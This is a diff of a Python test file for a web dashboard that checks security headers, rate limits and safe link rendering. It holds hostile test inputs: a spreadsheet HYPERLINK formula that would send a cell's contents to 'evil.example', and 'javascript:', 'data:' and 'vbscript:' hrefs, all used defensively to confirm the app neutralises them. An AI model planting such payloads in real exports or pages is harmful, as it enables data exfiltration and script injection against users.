@@ -34,7 +34,7 @@ from tests.web.conftest import build_store
 
 FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 ANALYST = "zed-the-analyst"
-STATIC_JS = Path(__file__).resolve().parents[2] / "flashpoint" / "web" / "static" / "common.js"
+DOM_JS = Path(__file__).resolve().parents[2] / "web" / "src" / "lib" / "dom.js"  # the dashboard's DOM helpers
 
 
 @pytest.fixture(scope="module")
@@ -245,7 +245,7 @@ def test_an_internal_error_is_a_json_500(db: str, monkeypatch: pytest.MonkeyPatc
 
 # -- headers, cookies, hosts, rate limit ----------------------------------------------------------------------------
 def test_security_headers_on_every_answer(client: TestClient) -> None:
-    for path in ("/", "/static/common.js", "/api/events", "/api/nothing", "/event/x"):
+    for path in ("/", "/static/index.html", "/api/events", "/api/nothing", "/event/x"):
         r = client.get(path)
         assert "frame-ancestors 'none'" in r.headers["content-security-policy"], path
         assert r.headers["x-frame-options"] == "DENY" and r.headers["referrer-policy"] == "same-origin"
@@ -286,7 +286,7 @@ def test_serve_names_its_hosts() -> None:
 def test_rate_limit_says_when_and_skips_static_files(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(app_module, "RATE_PER_MINUTE", 5)
     c = TestClient(create_app(db))
-    assert {c.get("/static/common.js").status_code for _ in range(20)} == {200}
+    assert {c.get("/static/index.html").status_code for _ in range(20)} == {200}
     assert {c.get("/").status_code for _ in range(10)} == {200}
     codes = [c.get("/api/links").status_code for _ in range(6)]
     assert codes == [200] * 5 + [429]
@@ -332,11 +332,14 @@ def test_only_http_links(client: TestClient) -> None:
 
 @pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
 def test_the_dashboard_renders_only_http_links_and_neutral_text(tmp_path: Path) -> None:
-    script = tmp_path / "t.js"
-    script.write_text(STATIC_JS.read_text() + """
+    script = tmp_path / "t.mjs"
+    script.write_text("""
 const made = [];
-global.document = { createElement: (tag) => { const n = { tag, attrs: {}, setAttribute(k, v) { this.attrs[k] = v; } };
-  made.push(n); return n; } };
+const fake = (tag) => ({ tag, attrs: {}, setAttribute(k, v) { this.attrs[k] = v; }, addEventListener() {},
+  appendChild(c) { this.textContent = (this.textContent || "") + (c.text ?? c.textContent ?? ""); } });
+global.document = { createElement: (tag) => { const n = fake(tag); made.push(n); return n; },
+  createTextNode: (text) => ({ text }) };
+const { el } = await import(process.argv[2]);
 const out = [];
 for (const href of ["javascript:alert(1)", " JAVASCRIPT:x", "data:text/html,x", "//evil.example/x", "vbscript:x",
                     "https://news.example.org/a", "/event/e1"]) {
@@ -345,7 +348,8 @@ for (const href of ["javascript:alert(1)", " JAVASCRIPT:x", "data:text/html,x", 
 out.push(el("span", {}, "wounding \\u202e21\\u202c troops").textContent);
 console.log(JSON.stringify(out));
 """)
-    got = json.loads(subprocess.run(["node", str(script)], capture_output=True, text=True, check=True).stdout)
+    got = json.loads(subprocess.run(["node", str(script), DOM_JS.as_uri()], capture_output=True, text=True,
+                                   check=True).stdout)
     assert got[:5] == [{}, {}, {}, {}, {}]
     assert got[5] == {"href": "https://news.example.org/a"} and got[6] == {"href": "/event/e1"}
     assert got[7] == "wounding \ufffd21\ufffd troops"
